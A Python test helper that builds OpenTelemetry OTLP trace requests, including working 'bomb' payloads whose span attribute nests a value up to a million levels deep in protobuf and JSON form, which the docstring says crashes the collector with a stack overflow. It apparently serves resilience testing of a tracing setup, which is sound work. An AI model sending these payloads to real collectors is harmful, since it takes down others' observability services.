# SPDX-License-Identifier: Apache-2.0
"""OTLP trace requests built byte by byte: one ordinary span, and one whose attribute is an ``AnyValue`` nested
``depth`` levels deep (finding 1 of issue 8, upstream open-telemetry/opentelemetry-collector#15301).

pdata decodes ``AnyValue -> KeyValueList -> KeyValue -> AnyValue`` recursively with no depth limit, so a deep
enough value overflows the collector's goroutine stack (``fatal error: stack overflow``, not recoverable). The
request is built without the protobuf runtime (which refuses to nest more than 100 levels) and without
recursion: the nested value is the last field of every level, so each level is just a header whose length
covers everything inside it. Sizes are computed inside out, headers written outside in; 1,000,000 levels take
about a second.

    body = nested_kvlist_request(1_000_000)           # ~9 MB of protobuf
    wire = gzip.compress(body)                        # what the attack sends (Content-Encoding: gzip)
    ok_body, trace_id = plain_request("before-bomb")   # an ordinary span, to prove nothing is lost
"""

from __future__ import annotations

import os
import time

_LEN = 2  # wire type "length-delimited"


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        if value:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def _tag(field: int, wire_type: int) -> bytes:
    return _varint(field << 3 | wire_type)


def _message(field: int, payload: bytes) -> bytes:
    return _tag(field, _LEN) + _varint(len(payload)) + payload


def _fixed64(field: int, value: int) -> bytes:
    return _tag(field, 1) + value.to_bytes(8, "little")


def _string_any(text: str) -> bytes:
    return _message(1, text.encode())  # AnyValue.string_value = 1


def _nested_kvlist_any(depth: int) -> bytes:
    """``AnyValue{kvlist_value{values[KeyValue{value: AnyValue{...}}]}}``, ``depth`` kvlists deep."""
    any_tag, list_tag, value_tag = _tag(6, _LEN), _tag(1, _LEN), _tag(2, _LEN)  # kvlist_value, values, value
    innermost = _string_any("x")
    headers: list[bytes] = []
    size = len(innermost)
    for _ in range(depth):
        key_value = value_tag + _varint(size)  # KeyValue{key: "" (omitted), value: AnyValue}
        key_value_size = len(key_value) + size
        key_value_list = list_tag + _varint(key_value_size)
        list_size = len(key_value_list) + key_value_size
        any_value = any_tag + _varint(list_size)
        size = len(any_value) + list_size
        headers.append(any_value + key_value_list + key_value)
    headers.reverse()  # the outermost level first
    return b"".join([*headers, innermost])


def _request(span_name: str, attributes: list[bytes]) -> tuple[bytes, str]:
    trace_id, span_id = os.urandom(16), os.urandom(8)
    now = time.time_ns()
    span = (
        _message(1, trace_id)
        + _message(2, span_id)
        + _message(5, span_name.encode())
        + _tag(6, 0)
        + _varint(1)  # SPAN_KIND_INTERNAL
        + _fixed64(7, now - 1_000_000)
        + _fixed64(8, now)
        + b"".join(_message(9, attribute) for attribute in attributes)
    )
    scope = _message(1, b"\x0a" + _varint(len(b"openwebui.otel_bridge")) + b"openwebui.otel_bridge")
    scope_spans = scope + _message(2, span)
    service = _message(1, b"service.name") + _message(2, _string_any("bomb-test"))
    resource = _message(1, service)  # Resource.attributes
    resource_spans = _message(1, resource) + _message(2, scope_spans)
    return _message(1, resource_spans), trace_id.hex()


def nested_kvlist_request(depth: int) -> bytes:
    """An ExportTraceServiceRequest with one span whose attribute ``bomb`` nests ``depth`` kvlists."""
    attribute = _message(1, b"bomb") + _message(2, _nested_kvlist_any(depth))
    body, _ = _request("nested-kvlist", [attribute])
    return body


def plain_request(span_name: str) -> tuple[bytes, str]:
    """An ordinary one-span request and its trace id (hex)."""
    attribute = _message(1, b"test.kind") + _message(2, _string_any("ordinary"))
    return _request(span_name, [attribute])


def _nested_array_any(depth: int) -> bytes:
    """``AnyValue{array_value{values[AnyValue{...}]}}``, ``depth`` arrays deep: the fewest bytes per level (2
    headers; a kvlist level has 3), so the deepest value a size limit lets through."""
    any_tag, values_tag = _tag(5, _LEN), _tag(1, _LEN)  # AnyValue.array_value, ArrayValue.values
    innermost = _string_any("x")
    headers: list[bytes] = []
    size = len(innermost)
    for _ in range(depth):
        array = values_tag + _varint(size)
        array_size = len(array) + size
        any_value = any_tag + _varint(array_size)
        size = len(any_value) + array_size
        headers.append(any_value + array)
    headers.reverse()
    return b"".join([*headers, innermost])


def nested_array_request(depth: int) -> bytes:
    """An ExportTraceServiceRequest with one span whose attribute ``bomb`` nests ``depth`` arrays."""
    attribute = _message(1, b"bomb") + _message(2, _nested_array_any(depth))
    body, _ = _request("nested-array", [attribute])
    return body


def nested_json_request(depth: int) -> bytes:
    """The same attack as OTLP/JSON (upstream #15603, no depth limit in any release): ``depth`` nested arrays,
    ``{"arrayValue":{"values":[`` ... ``]}}``, 28 bytes a level."""
    now = time.time_ns()
    value = '{"arrayValue":{"values":[' * depth + '{"stringValue":"x"}' + "]}}" * depth
    return (
        '{"resourceSpans":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"bomb-test"}}]},'
        '"scopeSpans":[{"scope":{"name":"nested-json"},"spans":[{'
        f'"traceId":"{os.urandom(16).hex()}","spanId":"{os.urandom(8).hex()}","name":"nested-json","kind":1,'
        f'"startTimeUnixNano":"{now - 1_000_000}","endTimeUnixNano":"{now}",'
        f'"attributes":[{{"key":"bomb","value":{value}}}]}}]}}]}}]}}'
    ).encode()


def wide_request(span_name: str, size: int, *, attributes: int, spans: int = 1) -> tuple[bytes, list[str]]:
    """Like :func:`large_request`, with ``attributes`` attributes ``filler.<n>`` of ``size`` bytes each per span."""
    fillers = [_message(1, f"filler.{n}".encode()) + _message(2, _string_any("f" * size)) for n in range(attributes)]
    bodies = [_request(f"{span_name}-{index}", fillers) for index in range(spans)]
    return b"".join(body for body, _ in bodies), [trace_id for _, trace_id in bodies]


def large_request(span_name: str, size: int, spans: int = 1) -> tuple[bytes, list[str]]:
    """A request of ``spans`` spans whose attribute ``filler`` holds ``size`` bytes of text each (no content
    attribute: they pass the Jaeger pipeline's content stripping), and their trace ids (hex)."""
    attribute = _message(1, b"filler") + _message(2, _string_any("f" * size))
    bodies = [_request(f"{span_name}-{index}", [attribute]) for index in range(spans)]
    # Each body is one ResourceSpans (field 1 of the request): concatenated, they are one request of all of them.
    return b"".join(body for body, _ in bodies), [trace_id for _, trace_id in bodies]
